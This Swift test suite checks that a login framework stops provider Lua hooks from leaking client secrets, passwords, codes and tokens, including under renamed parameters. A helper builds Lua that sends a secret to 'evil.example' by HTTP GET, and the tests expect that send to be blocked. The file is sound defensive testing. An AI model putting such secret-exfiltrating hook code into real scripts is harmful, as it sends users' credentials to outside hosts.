import Standards
import Testing

@testable import Login
@testable import Providers

/// What came from a secret is a handle to every function, under whatever name it goes.
@Suite(.timeLimit(.minutes(1)))
struct HookSecretTests {
  private static let token = "https://as.example/token"
  private static let secrets = ["client_id": "ID-0001", "client_secret": "s3cret-value"]

  /// Hands a value to a host that the file may reach and the value may not.
  private static func leak(_ value: String) -> String {
    """
    local v = \(value)
    if type(v) == "string" then ctx.http.get("https://evil.example/?v=" .. v) end
    ctx.http.get { url = "https://evil.example/", query = { v = v } }
    """
  }

  private func expectNoLeak(_ rig: LoginRig) {
    #expect(rig.service.requests.allSatisfy { $0.url.host != "evil.example" })
  }

  @Test(arguments: [
    (
      "client_auth = 'post', token = { url = 'TOKEN', rename = { client_secret = 'pass' } },",
      "params.pass"
    ),
    (
      "token = { url = 'TOKEN', params = { app_secret = '{client_secret}' } },", "params.app_secret"
    ),
    ("token = { url = 'TOKEN', params = { session = '{$state}' } },", "params.session"),
    ("token = { url = 'TOKEN', rename = { code = 'ticket' } },", "params.ticket"),
    ("token = { url = 'TOKEN', body = 'json', rename = { code = 'ticket' } },", "params.ticket"),
  ])
  func `a token request shows no secret under another name`(
    oauth2: String,
    value: String
  ) async throws {
    let rig = try LoginRig(
      """
      oauth2 = { authorize = "https://as.example/a", \(oauth2.replacing("TOKEN", with: Self.token)) },
      hosts = { "evil.example" },
      on_token_request = function(ctx, params) \(Self.leak(value)) end,
      """
    )
    rig.service.on("POST", Self.token, json: .grant)
    let error = await rig.failure(Self.secrets)
    #expect(error?.code == .hostNotAllowed, "\(String(describing: error))")
    expectNoLeak(rig)
  }

  @Test
  func `a password is a handle`() async throws {
    let rig = try LoginRig(
      """
      oauth2 = { token = "\(Self.token)", grants = { "password" } },
      hosts = { "evil.example" },
      on_token_request = function(ctx, params) \(Self.leak("params.password")) end,
      """,
      redirect: ""
    )
    rig.service.on("POST", Self.token, json: .grant)
    var options = Self.secrets
    options["username"] = "me"
    options["password"] = "pa55-w0rd"
    #expect(await rig.failure(options)?.code == .hostNotAllowed)
    expectNoLeak(rig)
  }

  @Test
  func `an access token that renews itself is a handle, whatever it is called`() async throws {
    let rig = try LoginRig(
      """
      oauth2 = {
        authorize = "https://as.example/a", token = "\(Self.token)",
        refresh = { url = "\(Self.token)", rename = { refresh_token = "fb_exchange_token" } },
        refresh_token = { use = "access_token" },
      },
      hosts = { "evil.example" },
      on_token_request = function(ctx, params)
        if params.fb_exchange_token then \(Self.leak("params.fb_exchange_token")) end
      end,
      """
    )
    rig.service.on("POST", Self.token, json: .grant)
    _ = try await rig.login(Self.secrets)
    await #expect(throws: AuthRunError.self) { _ = try await rig.token(force: true) }
    expectNoLeak(rig)
  }

  @Test(arguments: ["auth_code", "extra"])
  func `a code is a handle to on_callback under the name that it has there`(
    name: String
  ) async throws {
    let rig = try LoginRig(
      """
      oauth2 = {
        authorize = "https://as.example/a", token = "\(Self.token)",
        callback = { code = "auth_code", send = { extra = "extra" } },
      },
      hosts = { "evil.example" },
      on_callback = function(ctx, params) \(Self.leak("params.\(name)")) end,
      """
    )
    rig.service.on("POST", Self.token, json: .grant)
    rig.user.agree(adding: [("auth_code", "C0DE-2"), ("extra", "m0re")])
    #expect(await rig.failure(Self.secrets)?.code == .hostNotAllowed)
    expectNoLeak(rig)
  }

  @Test(arguments: ["sessionKey", "session_cookie"])
  func `a token is a handle to on_token_response wherever it stands`(name: String) async throws {
    let rig = try LoginRig(
      """
      oauth2 = {
        authorize = "https://as.example/a", token = "\(Self.token)",
        response = { access_token = "/sessionKey" },
      },
      on_token_response = function(ctx, answer)
        ctx.fail("protocol", type(answer.\(name)) .. " " .. type(answer.scope))
      end,
      """
    )
    rig.service.on(
      "POST",
      Self.token,
      json: ["sessionKey": "abc", "session_cookie": "0123456789abcdef", "scope": "a-long-scope"]
    )
    #expect(await rig.failure(Self.secrets)?.message == "userdata string")
  }

  @Test
  func `what is kept of an answer is no way to a token`() async throws {
    let rig = try LoginRig(
      """
      oauth2 = {
        authorize = "https://as.example/a", token = "\(Self.token)",
        response = { keep = { "/data", "/instance_url", "/session_cookie" } },
      },
      identity = function(ctx, token)
        local x = token.extras
        return {
          id = table.concat({
            type(x.data.access_token), type(x.session_cookie), x.instance_url, x.data.count,
          }, " "),
        }
      end,
      """
    )
    rig.service.on(
      "POST",
      Self.token,
      json: [
        "access_token": "T0KEN-1", "data": ["access_token": "T0KEN-1", "count": 3],
        "instance_url": "https://one.example", "session_cookie": "0123456789abcdef",
      ]
    )
    let outcome = try await rig.login(Self.secrets)
    #expect(outcome.credential.identity?.id == "userdata userdata https://one.example 3")
  }

  @Test(arguments: [
    "return { note = answer.access_token }",
    "answer.scope = answer.access_token",
    "answer.note = answer.secret_thing",
  ])
  func `a token cannot be moved to where it would be shown`(body: String) async throws {
    let rig = try LoginRig(
      """
      oauth2 = {
        authorize = "https://as.example/a", token = "\(Self.token)",
        response = { keep = { "/note" } },
      },
      on_token_response = function(ctx, answer) \(body) end,
      """
    )
    rig.service.on(
      "POST",
      Self.token,
      json: ["access_token": "T0KEN-1", "secret_thing": "0123456789abcdef"]
    )
    let error = await rig.failure(Self.secrets)
    #expect(error?.code == .descriptorInvalid, "\(String(describing: error))")
    #expect(error?.message.contains("would be shown") == true)
  }

  @Test(arguments: [
    ("request = { headers = { ['x-key'] = '{key}' }, BASE }", "r.headers['x-key']"),
    ("request = { query = { k = '{key}' }, BASE }", "r.params.k"),
    ("request = { query = { k = '{key}' }, BASE }", "r.query"),
    ("request = { query = { k = '{key}' }, BASE }", "r.url"),
  ])
  func `sign sees no secret that the descriptor puts into each request`(
    request: String,
    value: String
  ) async throws {
    let rig = try LoginRig(
      """
      options = { key = { type = "secret", required = true, bind = { "api.example" } } },
      hosts = { "evil.example" },
      \(request.replacing("BASE", with: "base = 'https://api.example'")),
      login = function(ctx) return { access = "A-1" } end,
      sign = function(ctx, r)
        local v = \(value)
        if type(v) == "string" then ctx.log(v) ctx.fail("protocol", #v .. " bytes") end
        \(Self.leak("v"))
      end,
      """,
      redirect: ""
    )
    _ = try await rig.login(["key": "k3y-value"])
    do {
      _ = try await rig.get("/me?a=1")
      Issue.record("the request was sent")
    } catch let error as AuthRunError {
      // The texts are there without the parameter.
      let words = value == "r.query" ? "3 bytes" : value == "r.url" ? "26 bytes" : ""
      #expect(words.isEmpty ? error.code == .hostNotAllowed : error.message == words)
    }
    expectNoLeak(rig)
  }

  @Test
  func `what sign may not see is sent all the same, and can be signed`() async throws {
    let rig = try LoginRig(
      """
      options = { key = { type = "secret", required = true, bind = { "api.example" } } },
      request = { headers = { ["x-key"] = "{key}" }, query = { k = "{key}" }, base = "https://api.example" },
      login = function(ctx) return { access = "A-1" } end,
      sign = function(ctx, r)
        return { headers = { digest = ctx.hash.sha256 { r.method, " ", r.path, " ", r.params.k } } }
      end,
      """,
      redirect: ""
    )
    _ = try await rig.login(["key": "k3y-value"])
    _ = try await rig.get("/me?a=1")
    let sent = try #require(rig.service.last("https://api.example/me"))
    #expect(sent.headers["x-key"] == "k3y-value" && sent.url.query == "a=1&k=k3y-value")
    let digest = rig.engine.tools.hashing.digest(.sha256, Array("GET /me k3y-value".utf8))
    #expect(sent.headers["digest"] == Hex.encode(digest))
  }

  @Test(arguments: [
    "identity = { post = '/me', form = { k = '{key}' }, id = '/id' }",
    "identity = { post = '/me', json = { k = '{key}' }, id = '/id' }",
    "identity = { get = '/me', headers = { ['x-key'] = '{key}' }, id = '/id' }",
    "identity = { get = '/me?t={$access_token}', id = '/id' }",
    "identity = { get = '/me/{$access_token}', id = '/id' }",
    "lookups = { { get = '/me', headers = { ['x-key'] = '{key}' }, keep = { '/id' } } }",
  ])
  func `sign sees no secret of the questions that follow a login`(fields: String) async throws {
    let rig = try LoginRig(
      """
      options = { key = { type = "secret", required = true, bind = { "api.example" } } },
      hosts = { "evil.example" },
      request = { base = "https://api.example" },
      \(fields),
      login = function(ctx) return { access = "A-token-1" } end,
      sign = function(ctx, r)
        for _, v in pairs { r.url, r.path, r.query, r.body, r.headers["x-key"] } do
          if type(v) == "string" and (v:find("k3y", 1, true) or v:find("A-token-1", 1, true)) then
            ctx.http.get("https://evil.example/?leak")
          end
        end
        return {}
      end,
      """,
      redirect: ""
    )
    rig.service.on("GET", "https://api.example/me", json: ["id": "7"])
    rig.service.on("POST", "https://api.example/me", json: ["id": "7"])
    _ = try? await rig.login(["key": "k3y-value"])
    #expect(!rig.service.requests.isEmpty)
    expectNoLeak(rig)
  }

  @Test(arguments: [
    (
      "authorize = { url = 'https://as.example/a', rename = { redirect_uri = 'back' } }, token = 'TOKEN',",
      "on_authorize", "params.back = 'https://evil.example/'", "back"
    ),
    (
      "authorize = 'https://as.example/a', token = { url = 'TOKEN', rename = { code = 'ticket' } },",
      "on_token_request", "params.ticket = 'mine'", "ticket"
    ),
    (
      "authorize = 'https://as.example/a', token = 'TOKEN',",
      "on_authorize", "params.state = nil", "state"
    ),
    (
      "authorize = 'https://as.example/a', token = 'TOKEN',",
      "on_authorize", "params.client_id = { params.client_id, 'other' }", "client_id"
    ),
    (
      "authorize = 'https://as.example/a', token = 'TOKEN',",
      "on_token_request", "params.grant_type = 'password'", "grant_type"
    ),
  ])
  func `what a login's safety hangs on stays, under whatever name`(
    oauth2: String,
    hook: String,
    body: String,
    name: String
  ) async throws {
    let rig = try LoginRig(
      """
      oauth2 = { \(oauth2.replacing("TOKEN", with: Self.token)) },
      \(hook) = function(ctx, params) \(body) end,
      """
    )
    rig.service.on("POST", Self.token, json: .grant)
    let error = await rig.failure(Self.secrets)
    #expect(error?.code == .descriptorInvalid)
    #expect(error?.message == "\(hook) may not change \(name)")
    #expect(error?.location == "shop.lua")
    #expect(rig.service.requests.isEmpty)
  }

  /// Reports, no. 10: what the reader of the file cannot know shows when the values are there.
  @Test(arguments: [
    "login = function(ctx) ctx.browser.authorize { url = 'https://as.example/a', "
      + "query = { state = 's', hint = ctx.opt.hint } } end, hosts = { 'as.example' },",
    "oauth2 = { authorize = 'https://as.example/a', token = 'https://as.example/token' }, "
      + "on_authorize = function(ctx, params) params.hint = ctx.opt.hint end,",
  ])
  func `a secret that has got into another option goes through no browser`(
    fields: String
  ) async throws {
    let rig = try LoginRig(
      """
      options = {
        hint = { help = "a name" },
        key = { type = "secret", required = true, bind = { "as.example" } },
      },
      \(fields)
      """
    )
    let options = fields.hasPrefix("login") ? [:] : Self.secrets
    let error = await rig.failure(
      options.merging(["hint": "k3y-value", "key": "k3y-value"]) { $1 }
    )
    let isLogin = fields.hasPrefix("login")
    #expect(error?.code == (isLogin ? .inputInvalid : .descriptorInvalid))
    #expect(error?.message == "a secret would stand in the authorize URL, as hint")
    #expect(rig.user.authorizeURL == nil && rig.service.requests.isEmpty)
  }
}
